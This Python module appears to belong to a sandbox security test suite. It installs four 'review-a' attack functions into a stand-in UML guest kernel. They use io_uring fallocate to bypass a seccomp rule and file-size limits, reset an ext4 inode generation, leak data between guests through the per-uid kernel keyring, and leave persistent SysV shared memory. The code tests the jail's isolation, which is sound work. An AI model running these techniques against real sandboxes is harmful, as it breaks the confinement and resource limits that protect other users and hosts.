"""Attacks found by review-a, added to the stand-in UML (standin.py) at install time.

:func:`install` writes ``standin.py`` with this module's attack functions
put before its ``main`` call: ``attack=grow variant=100`` (and up) reach
them (``grow`` is looked up when ``main`` runs, so the override wins); every
other attack is the stand-in's own.  Stdlib only: it runs as the guest's
uid under ``python3 -I`` inside the jail, where nothing but its own file is.

variant=100  io_uring: ``IORING_OP_FALLOCATE`` with ``FALLOC_FL_KEEP_SIZE``
             on its own writable disk (``ubd0=``), ``uringmib=N`` MiB past
             its end (default 64).  seccomp sees ``io_uring_enter``, never
             the fallocate an io-wq worker makes for it, so the jail's
             fallocate rule does not apply; ``RLIMIT_FSIZE`` does not bound
             a ``KEEP_SIZE`` allocation.  One ``URING {json}`` line.
variant=101  ``FS_IOC_SETVERSION`` on its own disk (a new inode generation:
             ext4 allows the file's owner); one ``URING {json}`` line.
variant=102  the kernel keyring: read a key an earlier guest of its uid left
             in the user keyring (@u), then leave one; one ``URING {json}``.
variant=103  leave a SysV shared memory segment (1 MiB, touched) and a key in
             the user keyring (for ``jail = false``: no IPC namespace, no
             filter); one ``URING {json}`` line.
"""

from __future__ import annotations

from pathlib import Path

STANDIN = Path(__file__).resolve().parent / "standin.py"
MAIN = '\nif __name__ == "__main__":'
#: the description of the keys the stand-in leaves in its uid's keyring
KEY_DESCRIPTION = b"svirt-review-a-leak"

ATTACKS = r'''
# ---------------------------------------------------------------- review-a
_standin_grow = grow


def _uring_fallocate(fd: int, mode: int, offset: int, length: int) -> int:
    """One IORING_OP_FALLOCATE through a fresh io_uring: its result (-errno or 0),
    or an OSError when io_uring_setup itself fails."""
    import ctypes
    import mmap

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = (ctypes.c_uint32 * 30)()  # struct io_uring_params: 120 bytes
    ring = libc.syscall(425, ctypes.c_uint(4), params)  # io_uring_setup
    if ring < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    try:
        sq_entries, cq_entries = params[0], params[1]
        # sq_off: head tail ring_mask ring_entries flags dropped array (u32 each) at word 10
        sq_tail, sq_mask, sq_array = params[11], params[12], params[16]
        # cq_off at word 20: head tail ring_mask ring_entries overflow cqes
        cq_head, cq_mask, cqes = params[20], params[22], params[25]
        size = max(sq_array + 4 * sq_entries, cqes + 16 * cq_entries)
        rings = mmap.mmap(ring, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE,
                          offset=0)
        sqes = mmap.mmap(ring, 64 * sq_entries, mmap.MAP_SHARED,
                         mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
        # IORING_OP_FALLOCATE (17): fd, off = offset, addr = length, len = mode
        sqe = struct.pack("=BBHiQQIIQ24x", 17, 0, 0, fd, offset, length, mode, 0, 0xA77AC)
        sqes[0:64] = sqe
        tail = struct.unpack_from("=I", rings, sq_tail)[0]
        mask = struct.unpack_from("=I", rings, sq_mask)[0]
        struct.pack_into("=I", rings, sq_array + 4 * (tail & mask), 0)
        struct.pack_into("=I", rings, sq_tail, tail + 1)
        done = libc.syscall(426, ctypes.c_int(ring), ctypes.c_uint(1), ctypes.c_uint(1),
                            ctypes.c_uint(1), None, ctypes.c_size_t(0))  # io_uring_enter
        if done < 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        head = struct.unpack_from("=I", rings, cq_head)[0]
        cmask = struct.unpack_from("=I", rings, cq_mask)[0]
        _user, res, _flags = struct.unpack_from("=QiI", rings, cqes + 16 * (head & cmask))
        rings.close()
        sqes.close()
        return int(res)
    finally:
        os.close(ring)


def _regenerate(opts: dict[str, str], out: int) -> None:
    """FS_IOC_SETVERSION on its own disk: ext4 lets the file's owner (the
    guest, once DAC gave it the file) set the inode generation, which svirt
    takes as part of the object's identity."""
    import fcntl

    paths = [v for k, v in opts.items() if k.startswith("ubd0")]
    fd = os.open(paths[0].split(",")[-1], os.O_RDWR)
    report: dict[str, object] = {"variant": 101, "uid": os.fstat(fd).st_uid}
    try:
        (gen,) = struct.unpack("=i", fcntl.ioctl(fd, 0x80087601, b"\0" * 8)[:4])
        report["generation0"] = gen
        fcntl.ioctl(fd, 0x40087602, struct.pack("=q", (gen + 1) & 0x7FFFFFFF))
        (gen,) = struct.unpack("=i", fcntl.ioctl(fd, 0x80087601, b"\0" * 8)[:4])
        report["generation"] = gen
    except OSError as err:
        report["error"] = _errname(err)
    os.close(fd)
    os.write(out, b"URING " + json.dumps(report).encode() + b"\n")


KEY_DESCRIPTION = b"svirt-review-a-leak"


def _keyring(out: int) -> None:
    """The kernel keyring is per uid, not per guest: read what an earlier
    guest of this uid left in the user keyring (@u), then leave a key there."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    def call(*args: object) -> int:
        got = libc.syscall(*args)
        return int(got) if got >= 0 else -ctypes.get_errno()

    user = ctypes.c_long(-4)  # KEY_SPEC_USER_KEYRING
    report: dict[str, object] = {"variant": 102, "pid": os.getpid()}
    found = call(ctypes.c_long(250), ctypes.c_long(10), user, b"user", KEY_DESCRIPTION,
                 ctypes.c_long(0))  # KEYCTL_SEARCH
    if found > 0:
        buf = ctypes.create_string_buffer(256)
        n = call(ctypes.c_long(250), ctypes.c_long(11), ctypes.c_long(found), buf,
                 ctypes.c_long(256))  # KEYCTL_READ
        report["found"] = buf.raw[:n].decode(errors="replace") if n >= 0 else n
    else:
        report["found"] = errno.errorcode.get(-found, str(found))
    payload = f"left by pid {os.getpid()} uid {os.getuid()}".encode()
    serial = call(ctypes.c_long(248), b"user", KEY_DESCRIPTION, payload,
                  ctypes.c_size_t(len(payload)), user)  # add_key
    report["added"] = serial if serial > 0 else errno.errorcode.get(-serial, str(serial))
    os.write(out, b"URING " + json.dumps(report).encode() + b"\n")


def _uid_state(out: int) -> None:
    """Kernel objects that belong to the uid, not to a process: a SysV
    shared memory segment (1 MiB, touched) and a key in the user keyring.
    Both outlive every process of the uid unless someone removes them."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    report: dict[str, object] = {"variant": 103}
    shmid = libc.shmget(0, 1 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if shmid >= 0:
        addr = libc.shmat(shmid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(addr, 0x5A, 1 << 20)
            libc.shmdt(ctypes.c_void_p(addr))
        report["shmid"] = shmid
    else:
        report["shmid"] = errno.errorcode.get(ctypes.get_errno(), "?")
    libc.syscall.restype = ctypes.c_long
    payload = b"left by a jail = false guest"
    serial = libc.syscall(ctypes.c_long(248), b"user", KEY_DESCRIPTION, payload,
                          ctypes.c_size_t(len(payload)), ctypes.c_long(-4))
    report["key"] = serial if serial > 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    os.write(out, b"URING " + json.dumps(report).encode() + b"\n")


def grow(opts: dict[str, str], variant: int, out: int) -> None:  # noqa: F811
    if variant < 100:
        _standin_grow(opts, variant, out)
        return
    if variant == 101:
        _regenerate(opts, out)
        return
    if variant == 102:
        _keyring(out)
        return
    if variant == 103:
        _uid_state(out)
        return
    paths = [v for k, v in opts.items() if k.startswith("ubd0")]
    report: dict[str, object] = {"variant": variant}
    fd = os.open(paths[0].split(",")[-1], os.O_RDWR)
    st = os.fstat(fd)
    report["size0"], report["allocated0"] = st.st_size, st.st_blocks * 512
    want = int(opts.get("uringmib") or 64) << 20
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
        rc = libc.fallocate(fd, 0x01, st.st_size, want)
        report["direct"] = "done" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    except OSError as err:
        report["direct"] = _errname(err)
    try:
        res = _uring_fallocate(fd, 0x01, st.st_size, want)  # FALLOC_FL_KEEP_SIZE
        report["uring"] = "done" if res == 0 else errno.errorcode.get(-res, str(res))
    except OSError as err:
        report["uring"] = f"setup {_errname(err)}"
    st = os.fstat(fd)
    report["size"], report["allocated"] = st.st_size, st.st_blocks * 512
    os.close(fd)
    os.write(out, b"URING " + json.dumps(report).encode() + b"\n")
'''


def source() -> str:
    """standin.py with the attacks above before its main call."""
    text = STANDIN.read_text()
    head, sep, tail = text.rpartition(MAIN)
    assert sep, "standin.py has no main call"
    return head + ATTACKS + sep + tail


def install(directory: Path) -> Path:
    """The extended stand-in as a kernel other uids can execute."""
    kernel = directory / "linux-standin-review-a"
    kernel.write_text(source())
    kernel.chmod(0o755)
    return kernel
